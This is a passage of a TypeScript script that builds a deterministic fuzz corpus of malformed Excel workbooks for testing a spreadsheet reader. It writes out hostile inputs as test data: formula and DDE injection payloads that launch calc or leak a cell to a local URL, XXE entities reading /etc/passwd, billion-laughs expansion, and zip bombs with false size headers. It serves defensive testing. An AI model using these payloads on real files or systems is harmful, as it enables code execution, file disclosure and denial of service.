// The fuzz corpus: workbooks as users, other tools and attackers leave them, derived from the five
// sample workbooks. Deterministic: the same seed gives the same files, byte for byte, so a file
// that fails names a reproducible case (`npx tsx scripts/make-fuzz-corpus.ts <dir> [seed]`).
// Kinds (issue 12): byte flips, truncation, XML mutations (attribute values, non-finite and huge
// numbers, malformed dates, deleted and duplicated elements, entity tricks), deleted parts, zip
// bombs (small on disk, huge inflated), far cells, whole-grid defined names, huge <col> spans,
// whole-column validations, XXE / billion laughs / external DTDs, formula and DDE payloads in text.
import * as fs from "node:fs";
import * as path from "node:path";
import * as zlib from "node:zlib";
import * as ExcelJS from "exceljs";
import { unzipSync, zipSync, strFromU8, strToU8 } from "fflate";
import { builtInTemplates } from "../src/templates";
import { loadSample } from "../src/templates/samples";
import { planWorkbook } from "../src/core/layout/planner";
import { planToXlsx, type ExcelJsModule } from "../src/adapters/xlsx/render";

export interface CorpusFile {
  /** File name inside the corpus folder: <kind>-<template>-<variant>.xlsx */
  file: string;
  kind: string;
  variant: string;
  template: string;
  bytes: number;
}

export const DEFAULT_SEED = 20261205;

/** mulberry32: small, fast, and the same numbers on every machine. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Rnd = () => number;
const int = (rnd: Rnd, n: number) => Math.floor(rnd() * n);
const pick = <T>(rnd: Rnd, xs: readonly T[]): T => xs[int(rnd, xs.length)];

type Parts = Record<string, Uint8Array>;
const FIXED_TIME = new Date("2024-03-08T08:00:00Z");

function pack(parts: Parts): Uint8Array {
  return zipSync(parts, { level: 6, mtime: FIXED_TIME });
}

/** A sample's parts with its timestamps fixed, so everything derived from it is reproducible. */
async function samplePackage(templateId: string): Promise<Parts> {
  const t = builtInTemplates().find((x) => x.id === templateId)!;
  const bytes = await planToXlsx(
    ExcelJS as unknown as ExcelJsModule,
    planWorkbook(t, loadSample(templateId))
  );
  const parts = unzipSync(bytes);
  const core = "docProps/core.xml";
  if (parts[core]) {
    parts[core] = strToU8(
      strFromU8(parts[core]).replace(
        /\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z/g,
        "2024-03-08T08:00:00Z"
      )
    );
  }
  // Directory entries carry nothing and fflate writes folders implicitly.
  for (const k of Object.keys(parts)) if (k.endsWith("/")) delete parts[k];
  return parts;
}

const text = (parts: Parts, name: string) => strFromU8(parts[name]);
const withPart = (parts: Parts, name: string, xml: string): Parts => ({
  ...parts,
  [name]: strToU8(xml),
});
const sheetParts = (parts: Parts) =>
  Object.keys(parts)
    .filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))
    .sort((a, b) => Number(/\d+/.exec(a)![0]) - Number(/\d+/.exec(b)![0]));
const xmlParts = (parts: Parts) => Object.keys(parts).filter((n) => /\.(xml|rels)$/.test(n));

/** The sheet with most cells: the template's main table, where most input cells are. */
function mainSheet(parts: Parts): string {
  return sheetParts(parts).reduce((a, b) => (parts[b].length > parts[a].length ? b : a));
}

/** Sheet names in workbook order, for names and formulas that refer to them. */
function sheetNames(parts: Parts): string[] {
  return [...text(parts, "xl/workbook.xml").matchAll(/<sheet [^>]*name="([^"]*)"/g)].map((m) =>
    m[1].replace(/&apos;/g, "'")
  );
}
const quoted = (name: string) => `'${name.replace(/'/g, "''")}'`;

/** Every match of a global regex, with its index. */
function matches(s: string, re: RegExp): RegExpMatchArray[] {
  return [...s.matchAll(re)];
}

function replaceAt(s: string, at: number, len: number, by: string): string {
  return s.slice(0, at) + by + s.slice(at + len);
}

// ---- numbers, dates, text payloads in cells -------------------------------------------------

const NUMBER_CELL = /<c r="([A-Z]+\d+)"( s="\d+")?><v>(-?[\d.]+(?:[eE][-+]?\d+)?)<\/v><\/c>/g;

/** Number cells of the main sheet (the template's figures). */
function numberCells(xml: string): RegExpMatchArray[] {
  return matches(xml, NUMBER_CELL);
}

const BAD_NUMBERS: [string, string][] = [
  ["nan", "NaN"],
  ["inf", "Infinity"],
  ["neg-inf", "-Infinity"],
  ["1e309", "1e309"],
  ["neg-1e309", "-1e309"],
  ["neg-zero", "-0"],
  ["1e308", "1e308"],
  ["tiny", "1e-400"],
  ["400-digits", "9".repeat(400)],
  ["hex", "0x1F"],
  ["12abc", "12abc"],
  ["thousands", "1,234"],
  ["empty", ""],
  ["space", " "],
];

/** Number text that is not a number, written as a string cell where a figure belongs. */
const BAD_NUMBER_TEXTS = ["12abc", "1,234", "1.234,5", "١٢٣", "12 345", "NaN"];

function cellWith(ref: string, style: string, body: string): string {
  return `<c r="${ref}"${style}${body}</c>`;
}

/** The parts with the matched cell `m` (ref in m[1]) of `sheet` rewritten as `body`. */
function withCell(
  parts: Parts,
  sheet: string,
  xml: string,
  m: RegExpMatchArray,
  style: string,
  body: string
): Parts {
  return withPart(parts, sheet, replaceAt(xml, m.index!, m[0].length, cellWith(m[1], style, body)));
}

function badNumbers(parts: Parts, rnd: Rnd, add: Add): void {
  const sheet = mainSheet(parts);
  const xml = text(parts, sheet);
  const cells = numberCells(xml);
  if (cells.length === 0) return;
  for (const [name, v] of BAD_NUMBERS) {
    for (let i = 0; i < 2; i++) {
      const m = pick(rnd, cells);
      add("number", `${name}-${m[1]}`, withCell(parts, sheet, xml, m, m[2] ?? "", `><v>${v}</v>`));
    }
  }
  for (const v of BAD_NUMBER_TEXTS) {
    const m = pick(rnd, cells);
    add(
      "number-text",
      `${encodeURIComponent(v)}-${m[1]}`,
      withCell(parts, sheet, xml, m, m[2] ?? "", ` t="inlineStr"><is><t>${v}</t></is>`)
    );
  }
}

/** Style indexes whose number format is a date (built-in 14–22 or a custom d/m/y code). */
function dateStyles(parts: Parts): Set<number> {
  const styles = text(parts, "xl/styles.xml");
  const custom = new Set(
    matches(styles, /<numFmt numFmtId="(\d+)" formatCode="([^"]*)"/g)
      .filter((m) => /d/i.test(m[2]) && /y/i.test(m[2]))
      .map((m) => Number(m[1]))
  );
  const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? "";
  const out = new Set<number>();
  matches(xfs, /<xf [^>]*?numFmtId="(\d+)"/g).forEach((m, i) => {
    const id = Number(m[1]);
    if (custom.has(id) || (id >= 14 && id <= 22)) out.add(i);
  });
  return out;
}

const BAD_DATES: [string, string][] = [
  ["month-13", ` t="d"><v>2024-13-45</v>`],
  ["feb-30", ` t="d"><v>2024-02-30T25:61:00</v>`],
  ["zero-date", ` t="d"><v>0000-00-00</v>`],
  ["text-date", ` t="d"><v>hôm qua</v>`],
  ["empty-date", ` t="d"><v></v>`],
  ["far-future", ` t="d"><v>+275760-09-14</v>`],
  ["serial-max", `><v>2958466</v>`],
  ["serial-neg", `><v>-1</v>`],
  ["serial-1e10", `><v>1e10</v>`],
  ["serial-nan", `><v>NaN</v>`],
];

function badDates(parts: Parts, rnd: Rnd, add: Add): void {
  const styles = dateStyles(parts);
  for (const sheet of sheetParts(parts)) {
    const xml = text(parts, sheet);
    const cells = matches(xml, /<c r="([A-Z]+\d+)" s="(\d+)"(?:\/>|>[\s\S]*?<\/c>)/g).filter((m) =>
      styles.has(Number(m[2]))
    );
    if (cells.length === 0) continue;
    for (const [name, body] of BAD_DATES) {
      const m = pick(rnd, cells);
      add(
        "date",
        `${name}-${path.basename(sheet, ".xml")}-${m[1]}`,
        withCell(parts, sheet, xml, m, ` s="${m[2]}"`, body)
      );
    }
  }
}

const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+HYPERLINK("http://127.0.0.1:9/x?leak="&amp;A1,"bấm vào đây")`,
  `-2+3+cmd|' /C notepad'!'A1'`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `\t=WEBSERVICE("http://127.0.0.1:9/")`,
];

function payloads(parts: Parts, rnd: Rnd, add: Add): void {
  const sst = "xl/sharedStrings.xml";
  if (parts[sst]) {
    // Every shared string replaced: whatever cell BáoCáo reads text from holds a payload.
    let i = 0;
    const xml = text(parts, sst).replace(
      /<t( xml:space="preserve")?>[^<]*<\/t>/g,
      () => `<t xml:space="preserve">${PAYLOADS[i++ % PAYLOADS.length]}</t>`
    );
    add("payload", "all-shared-strings", withPart(parts, sst, xml));
  }
  const sheet = mainSheet(parts);
  const xml = text(parts, sheet);
  const cells = numberCells(xml);
  if (cells.length === 0) return;
  PAYLOADS.forEach((p, k) => {
    const m = pick(rnd, cells);
    add(
      "payload",
      `inline-${k}-${m[1]}`,
      withCell(
        parts,
        sheet,
        xml,
        m,
        m[2] ?? "",
        ` t="inlineStr"><is><t xml:space="preserve">${p}</t></is>`
      )
    );
  });
  for (const [k, f] of [
    `cmd|' /C calc'!A0`,
    `HYPERLINK("http://127.0.0.1:9/","x")`,
    `WEBSERVICE("http://127.0.0.1:9/")`,
  ].entries()) {
    const m = pick(rnd, cells);
    add(
      "payload",
      `formula-${k}-${m[1]}`,
      withCell(parts, sheet, xml, m, m[2] ?? "", `><f>${f.replace(/"/g, "&quot;")}</f><v>1</v>`)
    );
  }
}

// ---- XML structure -----------------------------------------------------------------------------

const ATTR_VALUES = [
  "",
  "-1",
  "0",
  "99999999999",
  "1e14",
  "NaN",
  "A0",
  "XFD1048577",
  "A1:XFD1048576",
  "&amp;lt;",
  "ÿ\u00a0",
  "x".repeat(10000),
];

function attributeMutations(parts: Parts, rnd: Rnd, add: Add, n: number): void {
  const names = xmlParts(parts);
  for (let i = 0; i < n; i++) {
    const part = pick(rnd, names);
    const xml = text(parts, part);
    const attrs = matches(xml, / ([\w:]+)="([^"]*)"/g).filter((m) => !m[1].startsWith("xmlns"));
    if (attrs.length === 0) continue;
    const m = pick(rnd, attrs);
    const v = pick(rnd, ATTR_VALUES);
    add(
      "attribute",
      `${i}-${path.basename(part)}-${m[1]}`,
      withPart(parts, part, replaceAt(xml, m.index!, m[0].length, ` ${m[1]}="${v}"`))
    );
  }
}

const ELEMENTS = [
  "c",
  "row",
  "v",
  "f",
  "sheet",
  "definedName",
  "definedNames",
  "mergeCell",
  "si",
  "dataValidation",
  "col",
  "cols",
  "xf",
  "numFmt",
  "Relationship",
  "Override",
  "Default",
  "sheetData",
  "dimension",
  "sheets",
  "cellXfs",
];

/** An element of the parts chosen at random: where it starts and ends. */
function someElement(
  parts: Parts,
  rnd: Rnd
): { part: string; xml: string; at: number; end: number; name: string } | null {
  const part = pick(rnd, xmlParts(parts));
  const xml = text(parts, part);
  const opens = matches(xml, new RegExp(`<(${ELEMENTS.join("|")})[\\s>/]`, "g"));
  if (opens.length === 0) return null;
  const m = pick(rnd, opens);
  const at = m.index!;
  const tagEnd = xml.indexOf(">", at);
  const end =
    xml[tagEnd - 1] === "/" ? tagEnd + 1 : xml.indexOf(`</${m[1]}>`, at) + m[1].length + 3;
  if (end <= at) return null;
  return { part, xml, at, end, name: m[1] };
}

function elementMutations(parts: Parts, rnd: Rnd, add: Add, n: number): void {
  for (let i = 0; i < n; i++) {
    const del = someElement(parts, rnd);
    if (del)
      add(
        "delete-element",
        `${i}-${path.basename(del.part)}-${del.name}`,
        withPart(parts, del.part, replaceAt(del.xml, del.at, del.end - del.at, ""))
      );
    const dup = someElement(parts, rnd);
    if (dup) {
      const el = dup.xml.slice(dup.at, dup.end);
      const times = pick(rnd, [1, 2, 50]);
      add(
        "duplicate-element",
        `${i}-${path.basename(dup.part)}-${dup.name}-x${times}`,
        withPart(parts, dup.part, replaceAt(dup.xml, dup.at, 0, el.repeat(times)))
      );
    }
  }
}

const ENTITY_TRICKS = [
  "&#0;",
  "&#x1;",
  "&#xD800;",
  "&#xFFFE;",
  "&#x110000;",
  "&#99999999999;",
  "&nosuch;",
  "&amp;#x41;",
  "&",
  "<![CDATA[",
  "]]>",
  "\u0000",
  "\uFFFF",
];

function entityTricks(parts: Parts, rnd: Rnd, add: Add, n: number): void {
  const targets = ["xl/sharedStrings.xml", "xl/workbook.xml", mainSheet(parts)].filter(
    (p) => parts[p]
  );
  for (let i = 0; i < n; i++) {
    const part = pick(rnd, targets);
    const xml = text(parts, part);
    // Inside a text node or an attribute value: where a parser must decode it.
    const spots = matches(xml, /(<t[^>]*>|<v>|<definedName[^>]*>|name=")/g);
    if (spots.length === 0) continue;
    const m = pick(rnd, spots);
    const trick = pick(rnd, ENTITY_TRICKS);
    const at = m.index! + m[0].length;
    add(
      "entity",
      `${i}-${path.basename(part)}`,
      withPart(parts, part, replaceAt(xml, at, 0, trick))
    );
  }
}

// ---- hostile XML ------------------------------------------------------------------------------

const DOCTYPES: [string, (root: string) => string, string][] = [
  ["xxe-file", (r) => `<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, "&xxe;"],
  ["xxe-http", (r) => `<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/x">]>`, "&xxe;"],
  [
    "billion-laughs",
    (r) =>
      `<!DOCTYPE ${r} [<!ENTITY lol0 "lol">` +
      Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join(
        ""
      ) +
      "]>",
    "&lol9;",
  ],
  [
    "quadratic",
    (r) => `<!DOCTYPE ${r} [<!ENTITY big "${"a".repeat(50000)}">]>`,
    "&big;".repeat(10000),
  ],
  ["external-dtd", (r) => `<!DOCTYPE ${r} SYSTEM "http://127.0.0.1:9/evil.dtd">`, ""],
  [
    "parameter-entity",
    (r) => `<!DOCTYPE ${r} [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>`,
    "",
  ],
];

function hostileXml(parts: Parts, add: Add): void {
  const targets: [string, string, RegExp][] = [
    ["xl/sharedStrings.xml", "sst", /<t( xml:space="preserve")?>/],
    ["xl/workbook.xml", "workbook", /<definedName [^>]*>/],
    [mainSheet(parts), "worksheet", /<c r="[A-Z]+\d+"( s="\d+")? t="s"><v>/],
  ];
  for (const [part, root, where] of targets) {
    if (!parts[part]) continue;
    for (const [name, doctype, use] of DOCTYPES) {
      let xml = text(parts, part).replace(/^(<\?xml[^>]*\?>)/, `$1${doctype(root)}`);
      if (use) {
        // In a sheet the entity goes in a string cell, as an inline string.
        xml =
          root === "worksheet"
            ? xml.replace(where, (m) =>
                m.replace(' t="s"><v>', ` t="inlineStr"><is><t>${use}</t></is><v>`)
              )
            : xml.replace(where, (m) => m + use);
      }
      add("hostile-xml", `${name}-${root}`, withPart(parts, part, xml));
    }
  }
}

// ---- far cells, names, columns, validations ----------------------------------------------------

function farCells(parts: Parts, add: Add): void {
  const sheets = [sheetParts(parts)[0], mainSheet(parts)];
  for (const sheet of new Set(sheets)) {
    const xml = text(parts, sheet);
    const base = path.basename(sheet, ".xml");
    const append = (rows: string) => xml.replace("</sheetData>", `${rows}</sheetData>`);
    add(
      "far-cell",
      `XFD1048576-${base}`,
      withPart(parts, sheet, append(`<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`))
    );
    add(
      "far-cell",
      `A1048576-text-${base}`,
      withPart(
        parts,
        sheet,
        append(`<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>cuối</t></is></c></row>`)
      )
    );
    add(
      "far-cell",
      `XFD1-${base}`,
      withPart(
        parts,
        sheet,
        xml.replace(/(<row r="1"[^>]*>[\s\S]*?)<\/row>/, `$1<c r="XFD1"><v>2</v></c></row>`)
      )
    );
    add(
      "far-cell",
      `spans-${base}`,
      withPart(parts, sheet, append(`<row r="1048576" spans="1:16384" ht="409" customHeight="1"/>`))
    );
    add(
      "far-cell",
      `dimension-${base}`,
      withPart(
        parts,
        sheet,
        xml.replace(/<dimension ref="[^"]*"\/>/, `<dimension ref="A1:XFD1048576"/>`)
      )
    );
    add(
      "far-cell",
      `row-beyond-${base}`,
      withPart(
        parts,
        sheet,
        append(
          `<row r="1048577"><c r="A1048577"><v>3</v></c></row><row r="99999999999"><c><v>4</v></c></row>`
        )
      )
    );
  }
}

function names(parts: Parts, add: Add): void {
  const wbName = "xl/workbook.xml";
  const wb = text(parts, wbName);
  const sheets = sheetNames(parts);
  const main = quoted(sheets[Math.min(1, sheets.length - 1)]);
  const withNames = (defs: string) =>
    wb.includes("<definedNames>")
      ? wb.replace("<definedNames>", `<definedNames>${defs}`)
      : wb.replace("</sheets>", `</sheets><definedNames>${defs}</definedNames>`);
  const dn = (name: string, ref: string, local?: number) =>
    `<definedName name="${name}"${local === undefined ? "" : ` localSheetId="${local}"`}>${ref.replace(/'/g, "&apos;")}</definedName>`;
  const variants: [string, string][] = [
    ["whole-grid-global", dn("ToanBo", `${main}!$A$1:$XFD$1048576`)],
    ["whole-grid-local", dn("ToanBo", `${main}!$A$1:$XFD$1048576`, 1)],
    ["whole-rows", dn("Hang", `${main}!$1:$1048576`)],
    ["whole-columns", dn("Cot", `${main}!$A:$XFD`)],
    [
      "filter-database-200k",
      `<definedName name="_xlnm._FilterDatabase" localSheetId="1" hidden="1">${main.replace(/'/g, "&apos;")}!$A$4:$G$200000</definedName>`,
    ],
    ["print-area-grid", dn("_xlnm.Print_Area", `${main}!$A$1:$XFD$1048576`, 1)],
    [
      "ten-thousand-names",
      Array.from({ length: 10000 }, (_, i) => dn(`Ten${i + 1}`, `${main}!$A$${i + 1}`)).join(""),
    ],
    ["multi-area", dn("NhieuVung", `${main}!$A$1:$XFD$1048576,${main}!$A$1:$B$2`)],
    ["bad-sheet", dn("SaiTrang", `'Không có'!$A$1`)],
    ["formula-name", dn("CongThuc", `SUM(${main}!$A:$XFD)`)],
  ];
  for (const [variant, defs] of variants)
    add("names", variant, withPart(parts, wbName, withNames(defs)));
  // One of BáoCáo's own names moved over the whole grid: the reader must not expand it.
  const own = /<definedName name="(BC_[^"]+)">([^<]*)<\/definedName>/.exec(wb);
  if (own) {
    add(
      "names",
      `own-name-whole-grid`,
      withPart(parts, wbName, wb.replace(own[0], dn(own[1], `${main}!$A$1:$XFD$1048576`)))
    );
    add(
      "names",
      `own-name-whole-column`,
      withPart(parts, wbName, wb.replace(own[0], dn(own[1], `${main}!$C:$C`)))
    );
  }
}

function columns(parts: Parts, add: Add): void {
  const sheet = mainSheet(parts);
  const xml = text(parts, sheet);
  const variants: [string, string][] = [
    ["max-99999999", `<col min="1" max="99999999" width="9" customWidth="1"/>`],
    ["min-1e14", `<col min="100000000000000" max="100000000000000" width="9"/>`],
    ["min-1e14-exp", `<col min="1e14" max="1e14"/>`],
    ["all-16384", `<col min="1" max="16384" width="9" customWidth="1"/>`],
    ["min-after-max", `<col min="9" max="2" width="9"/>`],
    ["negative", `<col min="-3" max="-1" width="-9"/>`],
    ["nan-width", `<col min="1" max="3" width="NaN"/>`],
    [
      "16384-separate",
      Array.from(
        { length: 16384 },
        (_, i) => `<col min="${i + 1}" max="${i + 1}" width="3"/>`
      ).join(""),
    ],
  ];
  for (const [variant, cols] of variants) {
    const body = xml.includes("<cols>")
      ? xml.replace(/<cols>[\s\S]*?<\/cols>/, `<cols>${cols}</cols>`)
      : xml.replace("<sheetData", `<cols>${cols}</cols><sheetData`);
    add("columns", variant, withPart(parts, sheet, body));
  }
}

function validations(parts: Parts, add: Add): void {
  const sheet = mainSheet(parts);
  const xml = text(parts, sheet);
  const dv = (sqref: string) =>
    `<dataValidation type="whole" operator="greaterThanOrEqual" allowBlank="1" showErrorMessage="1" sqref="${sqref}"><formula1>0</formula1></dataValidation>`;
  const letters = "ABCDEFGHIJ";
  const insertDv = (items: string) =>
    /<dataValidations[^>]*>/.test(xml)
      ? xml.replace(/<dataValidations[^>]*>/, (m) => `${m}${items}`)
      : xml.replace(
          /(<printOptions|<pageMargins)/,
          `<dataValidations count="1">${items}</dataValidations>$1`
        );
  add("validations", "one-whole-column", withPart(parts, sheet, insertDv(dv("C1:C1048576"))));
  add(
    "validations",
    "ten-whole-columns",
    withPart(parts, sheet, insertDv([...letters].map((l) => dv(`${l}1:${l}1048576`)).join("")))
  );
  add("validations", "whole-grid", withPart(parts, sheet, insertDv(dv("A1:XFD1048576"))));
  add("validations", "column-refs", withPart(parts, sheet, insertDv(dv("A:J"))));
  const cf = `<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="cellIs" dxfId="0" priority="1" operator="greaterThan"><formula>0</formula></cfRule></conditionalFormatting>`;
  add(
    "validations",
    "conditional-format-grid",
    withPart(parts, sheet, xml.replace(/(<dataValidations|<printOptions|<pageMargins)/, `${cf}$1`))
  );
}

// ---- bytes and parts ---------------------------------------------------------------------------

function byteFlips(bytes: Uint8Array, rnd: Rnd, add: AddBytes, n: number): void {
  for (let i = 0; i < n; i++) {
    const out = Uint8Array.from(bytes);
    const count = pick(rnd, [1, 1, 2, 4, 16]);
    // A third of the flips land in the zip's directory at the end, where offsets and sizes live.
    const tail = rnd() < 0.33;
    for (let k = 0; k < count; k++) {
      const at = tail
        ? out.length - 1 - int(rnd, Math.min(2000, out.length))
        : int(rnd, out.length);
      out[at] ^= 1 << int(rnd, 8);
    }
    add("byte-flip", `${i}-${count}${tail ? "-tail" : ""}`, out);
  }
}

function truncations(bytes: Uint8Array, rnd: Rnd, add: AddBytes, n: number): void {
  const fixed = [0, 1, 3, 4, 22, 30, bytes.length - 1, bytes.length - 22, bytes.length - 23];
  for (let i = 0; i < n; i++) {
    const len = i < fixed.length ? fixed[i] : int(rnd, bytes.length);
    add("truncate", `${len}`, bytes.subarray(0, Math.max(0, len)));
  }
}

function deletedParts(parts: Parts, add: Add): void {
  for (const name of Object.keys(parts)) {
    const rest = { ...parts };
    delete rest[name];
    add("delete-part", name.replace(/[/[\]]/g, "_"), rest);
  }
}

// ---- zip bombs: deflate streams built from repeated blocks, with the true CRC and sizes ---------

/** CRC-32 of `a` followed by `b`, from their CRCs and b's length (zlib's crc32_combine). */
function crc32Combine(crc1: number, crc2: number, len2: number): number {
  const gf2Times = (mat: Uint32Array, vec: number) => {
    let sum = 0;
    for (let i = 0; vec; i++, vec >>>= 1) if (vec & 1) sum ^= mat[i];
    return sum >>> 0;
  };
  const square = (sq: Uint32Array, mat: Uint32Array) => {
    for (let n = 0; n < 32; n++) sq[n] = gf2Times(mat, mat[n]);
  };
  if (len2 <= 0) return crc1;
  const even = new Uint32Array(32);
  const odd = new Uint32Array(32);
  odd[0] = 0xedb88320;
  let row = 1;
  for (let n = 1; n < 32; n++) {
    odd[n] = row;
    row <<= 1;
  }
  square(even, odd);
  square(odd, even);
  let c1 = crc1 >>> 0;
  let len = len2;
  do {
    square(even, odd);
    if (len % 2) c1 = gf2Times(even, c1);
    len = Math.floor(len / 2);
    if (len === 0) break;
    square(odd, even);
    if (len % 2) c1 = gf2Times(odd, c1);
    len = Math.floor(len / 2);
  } while (len !== 0);
  return (c1 ^ crc2) >>> 0;
}

interface Stream {
  data: Buffer;
  crc: number;
  size: number;
}

/** prefix + `times` × 1 MiB of `fill` + suffix, deflated without inflating it ever. */
function bombStream(prefix: string, fill: string, mib: number, suffix: string): Stream {
  const chunk = Buffer.alloc(1 << 20, fill);
  const flush = { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH };
  const pre = Buffer.from(prefix, "utf8");
  const suf = Buffer.from(suffix, "utf8");
  const chunkDeflated = zlib.deflateRawSync(chunk, flush);
  const data = Buffer.concat([
    zlib.deflateRawSync(pre, flush),
    ...Array.from({ length: mib }, () => chunkDeflated),
    zlib.deflateRawSync(suf, { level: 9 }),
  ]);
  // CRC of `mib` chunks by doubling, then the prefix and suffix around it.
  let reps = 0;
  let crcReps = 0;
  let pow = zlib.crc32(chunk);
  let powLen = chunk.length;
  for (let k = mib; k > 0; k >>= 1) {
    if (k & 1) {
      crcReps = reps === 0 ? pow : crc32Combine(crcReps, pow, powLen);
      reps += powLen;
    }
    pow = crc32Combine(pow, pow, powLen);
    powLen *= 2;
  }
  let crc = zlib.crc32(pre);
  crc = crc32Combine(crc, crcReps, reps);
  crc = crc32Combine(crc, zlib.crc32(suf), suf.length);
  return { data, crc, size: pre.length + reps + suf.length };
}

interface Entry {
  name: string;
  method: 0 | 8;
  data: Buffer;
  crc: number;
  size: number;
  /** The uncompressed size the headers claim, when it lies. */
  claimedSize?: number;
}

function storedEntry(name: string, bytes: Uint8Array): Entry {
  const data = zlib.deflateRawSync(bytes, { level: 6 });
  return { name, method: 8, data, crc: zlib.crc32(bytes), size: bytes.length };
}

/** A plain zip (no zip64: every size below 4 GiB), DOS time fixed. */
function writeZip(entries: Entry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  const dosTime = (8 << 11) | (0 << 5);
  const dosDate = ((2024 - 1980) << 9) | (3 << 5) | 8;
  for (const e of entries) {
    const name = Buffer.from(e.name, "utf8");
    const size = e.claimedSize ?? e.size;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt16LE(dosTime, 10);
    local.writeUInt16LE(dosDate, 12);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt16LE(dosTime, 12);
    central.writeUInt16LE(dosDate, 14);
    central.writeUInt32LE(e.crc >>> 0, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += local.length + name.length + e.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

function bombs(parts: Parts, add: AddBytes): void {
  const normal = (except: string[] = []) =>
    Object.entries(parts)
      .filter(([n]) => !except.includes(n))
      .map(([n, b]) => storedEntry(n, b));
  const bombEntry = (name: string, s: Stream, claimedSize?: number): Entry => ({
    name,
    method: 8,
    data: s.data,
    crc: s.crc,
    size: s.size,
    claimedSize,
  });
  const sheet = mainSheet(parts);
  const sheetXml = text(parts, sheet);
  const [sheetHead, sheetTail] = [
    sheetXml.slice(0, sheetXml.indexOf("<sheetData>") + "<sheetData>".length),
    sheetXml.slice(sheetXml.indexOf("<sheetData>") + "<sheetData>".length),
  ];
  add(
    "zip-bomb",
    "unreferenced-2GiB",
    writeZip([...normal(), bombEntry("xl/media/image1.bin", bombStream("", "\0", 2047, ""))])
  );
  add(
    "zip-bomb",
    "sheet-1GiB-spaces",
    writeZip([...normal([sheet]), bombEntry(sheet, bombStream(sheetHead, " ", 1024, sheetTail))])
  );
  const sst = text(parts, "xl/sharedStrings.xml");
  const at = sst.indexOf("<t>") + 3;
  add(
    "zip-bomb",
    "shared-string-1GiB",
    writeZip([
      ...normal(["xl/sharedStrings.xml"]),
      bombEntry("xl/sharedStrings.xml", bombStream(sst.slice(0, at), "a", 1024, sst.slice(at))),
    ])
  );
  const styles = text(parts, "xl/styles.xml");
  const sAt = styles.indexOf("?>") + 2;
  add(
    "zip-bomb",
    "styles-1GiB-whitespace",
    writeZip([
      ...normal(["xl/styles.xml"]),
      bombEntry("xl/styles.xml", bombStream(styles.slice(0, sAt), "\n", 1024, styles.slice(sAt))),
    ])
  );
  add(
    "zip-bomb",
    "eight-parts-512MiB",
    writeZip([
      ...normal(),
      ...Array.from({ length: 8 }, (_, i) =>
        bombEntry(`xl/media/part${i}.bin`, bombStream("", "\0", 512, ""))
      ),
    ])
  );
  add(
    "zip-bomb",
    "sheet-lies-about-size",
    writeZip([
      ...normal([sheet]),
      bombEntry(sheet, bombStream(sheetHead, " ", 512, sheetTail), sheetXml.length),
    ])
  );
  const ct = text(parts, "[Content_Types].xml");
  const cAt = ct.indexOf("?>") + 2;
  add(
    "zip-bomb",
    "content-types-1GiB",
    writeZip([
      ...normal(["[Content_Types].xml"]),
      bombEntry("[Content_Types].xml", bombStream(ct.slice(0, cAt), " ", 1024, ct.slice(cAt))),
    ])
  );
}

// ---- the corpus --------------------------------------------------------------------------------

type Add = (kind: string, variant: string, parts: Parts) => void;
type AddBytes = (kind: string, variant: string, bytes: Uint8Array) => void;

/** Writes the corpus into `dir` (created if needed) and returns its manifest, also saved as manifest.json. */
export async function makeFuzzCorpus(
  dir: string,
  seed = DEFAULT_SEED,
  /** Only these templates' files (the same files the whole corpus has for them). */
  templates?: string[]
): Promise<CorpusFile[]> {
  fs.mkdirSync(dir, { recursive: true });
  const manifest: CorpusFile[] = [];
  const seen = new Set<string>();
  const ids = builtInTemplates().map((t) => t.id);
  for (const [n, id] of ids.entries()) {
    if (templates && !templates.includes(id)) continue;
    const rnd = prng(seed + n * 7919);
    const parts = await samplePackage(id);
    const sample = pack(parts);
    const addBytes: AddBytes = (kind, variant, bytes) => {
      let file = `${kind}-${id}-${variant}`.replace(/[^\w.-]+/g, "_").slice(0, 150) + ".xlsx";
      for (let k = 2; seen.has(file); k++) file = file.replace(/(-\d+)?\.xlsx$/, `-${k}.xlsx`);
      seen.add(file);
      fs.writeFileSync(path.join(dir, file), bytes);
      manifest.push({ file, kind, variant, template: id, bytes: bytes.length });
    };
